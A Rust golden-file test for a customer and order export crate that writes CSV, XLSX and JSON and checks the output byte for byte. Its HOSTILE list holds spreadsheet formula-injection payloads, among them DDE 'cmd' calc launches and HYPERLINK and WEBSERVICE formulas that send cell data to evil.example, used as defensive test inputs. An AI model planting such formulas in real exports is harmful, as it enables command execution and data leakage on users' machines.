//! Files that other programs open: what lies in `tests/files/out` is what is written today, byte for byte. SheetJS
//! (`tests/browser/workbook.test.mjs`) and LibreOffice (`cargo xtask long`) read the very same files.
//!
//! Written anew with `SHUKE_GOLDEN=write cargo test -p intake golden`.

#![expect(
    clippy::disallowed_methods,
    reason = "golden files lie on a developer's disk"
)]

use super::tests::{customer, write_customers, write_orders};
use super::*;
use model::{
    Birthday, Consent, Currency, CustomField, CustomerDraft, CustomerKind, Day, Gender, Money,
    OrderDraft, OrderId, OrderLine, OrderStatus,
};
use std::path::PathBuf;

/// Beginnings that spreadsheets take for formulas (S4 of security.md), and what people try with them.
const HOSTILE: &[&str] = &[
    "=1+1",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "=cmd|'/C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",
    "＋1+1",
    "－2+3",
    "＠SUM(1,1)",
    "'=1+1",
    "=WEBSERVICE(\"http://evil.example/\")",
    "{=1+1}",
    ";=1+1",
    "\"=1+1\"",
    "0013800000000",
    "1E5",
    "2026-01-02",
    "TRUE",
    "陈伟 & <b>Söhne</b> 🙂",
];

fn customers() -> Vec<Customer> {
    let hostile = HOSTILE.iter().enumerate().map(|(n, text)| {
        let text = (*text).to_owned();
        let some = Some(text.clone());
        CustomerDraft {
            external_id: Some(format!("{text} {n}")),
            name: text.clone(),
            country: some.clone(),
            province: some.clone(),
            city: some.clone(),
            district: some.clone(),
            postal_code: some.clone(),
            address: some.clone(),
            occupation: some.clone(),
            education: some.clone(),
            income_band: some.clone(),
            industry: some.clone(),
            company_size: some.clone(),
            interests: vec![text.clone()],
            tags: vec![text.clone(), "VIP".to_owned()],
            source_channel: some.clone(),
            owner: some.clone(),
            note: some,
            custom: [("size".to_owned(), CustomField::Text(text))].into(),
            ..CustomerDraft::default()
        }
    });
    let whole = CustomerDraft {
        external_id: Some("2025100712345678901".to_owned()),
        kind: CustomerKind::Company,
        name: "示例贸易有限公司".to_owned(),
        phone: Some("+8613800000000".to_owned()),
        email: Some("info@example.com".to_owned()),
        gender: Some(Gender::Female),
        birthday: Birthday::new(Some(1990), 5, 14).ok(),
        signup_on: Some(Day(19_000)),
        consent: Consent {
            email: Some(true),
            sms: Some(false),
            phone: None,
        },
        acquisition_cost: Some(Money(123_456)),
        custom: [
            ("size".to_owned(), CustomField::Number(-41.5)),
            ("gift".to_owned(), CustomField::Flag(true)),
        ]
        .into(),
        ..CustomerDraft::default()
    };
    let yearless = CustomerDraft {
        name: "没有年份".to_owned(),
        birthday: Birthday::new(None, 2, 29).ok(),
        ..CustomerDraft::default()
    };
    hostile
        .chain([whole, yearless])
        .enumerate()
        .map(|(n, fields)| customer(n as i64 + 1, fields))
        .collect()
}

fn orders() -> Vec<(Order, Customer)> {
    let people = customers();
    let of = |n: usize| {
        let text = HOSTILE.get(n).copied().unwrap_or("plain").to_owned();
        let line = |product: String, amount| OrderLine {
            product,
            category: Some(text.clone()),
            quantity_milli: 1500,
            amount: Money(amount),
        };
        Order {
            id: OrderId((1 << 40) + n as i64),
            customer: people[n].id,
            fields: OrderDraft {
                external_id: Some(format!("{text}/{n}")),
                at: Timestamp(1_760_000_000_000),
                currency: Currency::CNY,
                amount: Money(5_200),
                gross: Some(Money(6_000)),
                tax: Some(Money(120)),
                paid_with_points: None,
                status: OrderStatus::Paid,
                channel: Some(text.clone()),
                coupon: Some(text.clone()),
                lines: vec![line(text.clone(), 5_000), line("杯".to_owned(), 200)],
            },
            refunds: Vec::new(),
        }
    };
    (0..people.len())
        .map(|n| (of(n), people[n].clone()))
        .collect()
}

fn hold(name: &str, bytes: &[u8]) {
    let path = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../tests/files/out");
    let path = path.join(name);
    if std::env::var_os("SHUKE_GOLDEN").is_some_and(|it| it == "write") {
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, bytes).unwrap();
    }
    let kept = std::fs::read(&path).unwrap();
    assert!(
        kept == bytes,
        "{name} is written otherwise than before: look at the difference, then write it anew"
    );
}

#[test]
fn golden_files_for_other_programs_are_written_as_ever() {
    for (form, end) in [
        (FileForm::Csv, "csv"),
        (FileForm::Xlsx, "xlsx"),
        (FileForm::Json, "json"),
    ] {
        hold(
            &format!("customers.{end}"),
            &write_customers(form, &customers()),
        );
        hold(&format!("orders.{end}"), &write_orders(form, &orders()));
    }
}
